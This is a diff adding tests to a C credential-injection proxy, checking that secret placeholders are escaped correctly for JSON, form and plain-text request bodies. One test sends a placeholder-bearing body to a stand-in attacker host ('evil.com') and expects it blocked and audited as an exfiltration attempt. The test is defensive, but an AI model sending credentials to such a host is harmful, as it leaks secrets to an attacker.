@@ -119,6 +119,29 @@ static int run(struct env *e, const char *sandbox, const char *host, const char 
 	return n;
 }
 
+/* As run, with a body read whole (the head's Content-Type decides its
+ * spelling); body_out gets the body as it would go upstream. */
+static int run_body(struct env *e, const char *sandbox, const char *host, const char *req,
+		    const char *body, struct buf *body_out)
+{
+	struct inject_who who = { .tenant = "ten_a", .sandbox_id = sandbox, .host = host };
+	enum inject_verdict v;
+	struct http_head h;
+	int n = -1;
+	err_t err = { 0 };
+
+	buf_reset(body_out);
+	CHECK(parse(req, &h) > 0);
+	h.has_body = true;
+	buf_init(&h.body);
+	buf_adds(&h.body, body);
+	CHECK(cred_inject(&e->ctx, &who, &h, &v, &n, &err) == 0 && v == INJECT_FORWARD);
+	buf_add(body_out, h.body.data, h.body.len);
+	buf_addc(body_out, '\0');
+	head_free(&h);
+	return n;
+}
+
 static int audits(struct env *e, const char *decision)
 {
 	struct db_rows rows;
@@ -161,6 +184,9 @@ static void test_inject(void)
 	add_cred(&e, "cred_old", "{\"name\":\"old\",\"env\":\"OLD\",\"inject\":{\"type\":\"header\","
 		 "\"header\":\"X-Api-Key\"},\"hosts\":[\"old.example.com\"],"
 		 "\"expires_at\":4102444800}", "old-REAL", NULL);
+	add_cred(&e, "cred_body", "{\"name\":\"body\",\"inject\":{\"type\":\"header\","
+		 "\"header\":\"X-Body-Key\"},\"hosts\":[\"body.example.com\"]}", "b\"o&dy\\REAL",
+		 NULL);
 	ph = cred_placeholder(e.db, "sbx_1", "cred_oa", &err);
 	ph_gh = cred_placeholder(e.db, "sbx_1", "cred_gh", &err);
 	ph_other = cred_placeholder(e.db, "sbx_2", "cred_oa", &err);
@@ -222,6 +248,38 @@ static void test_inject(void)
 		  &v) == 1);
 	CHECK(strncmp(out.data, "GET /geo?x=1&key=q%26REAL HTTP/1.1\r\n", 36) == 0);
 	CHECK(run(&e, "sbx_2", "maps.example.com", "GET /geo HTTP/1.1\r\n\r\n", &out, &v) == 0);
+
+	/* a body read whole: the placeholder is spelled as the body's type
+	 * wants the value (the value has characters each one escapes) */
+	{
+		_cleanup_free_ char *ph_b = cred_placeholder(e.db, "sbx_1", "cred_body", &err);
+		_cleanup_free_ char *js = xasprintf("{\"key\":\"%s\",\"n\":1}", ph_b);
+		_cleanup_free_ char *form = xasprintf("a=1&client_secret=%s", ph_b);
+		_cleanup_free_ char *text = xasprintf("%s %s", ph_b, ph_b);
+		struct buf body;
+		int before = audits(&e, "exfiltration_attempt");
+
+		CHECK(ph_b != NULL);
+		buf_init(&body);
+		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
+			       "application/json; charset=utf-8\r\n\r\n", js, &body) == 1);
+		CHECK(strcmp(body.data, "{\"key\":\"b\\\"o&dy\\\\REAL\",\"n\":1}") == 0);
+		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
+			       "application/vnd.api+json\r\n\r\n", js, &body) == 1);
+		CHECK(strcmp(body.data, "{\"key\":\"b\\\"o&dy\\\\REAL\",\"n\":1}") == 0);
+		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
+			       "application/x-www-form-urlencoded\r\n\r\n", form, &body) == 1);
+		CHECK(strcmp(body.data, "a=1&client_secret=b%22o%26dy%5CREAL") == 0);
+		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\n\r\n", text,
+			       &body) == 1);
+		CHECK(strcmp(body.data, "b\"o&dy\\REAL b\"o&dy\\REAL") == 0);
+		/* toward a host it is not bound to: untouched, audited */
+		CHECK(run_body(&e, "sbx_1", "evil.com", "POST /t HTTP/1.1\r\n\r\n", form,
+			       &body) == 0);
+		CHECK(strcmp(body.data, form) == 0);
+		CHECK(audits(&e, "exfiltration_attempt") == before + 1);
+		buf_free(&body);
+	}
 
 	/* expiry (by the injected clock) and revocation stop injection */
 	CHECK(run(&e, "sbx_1", "old.example.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1);
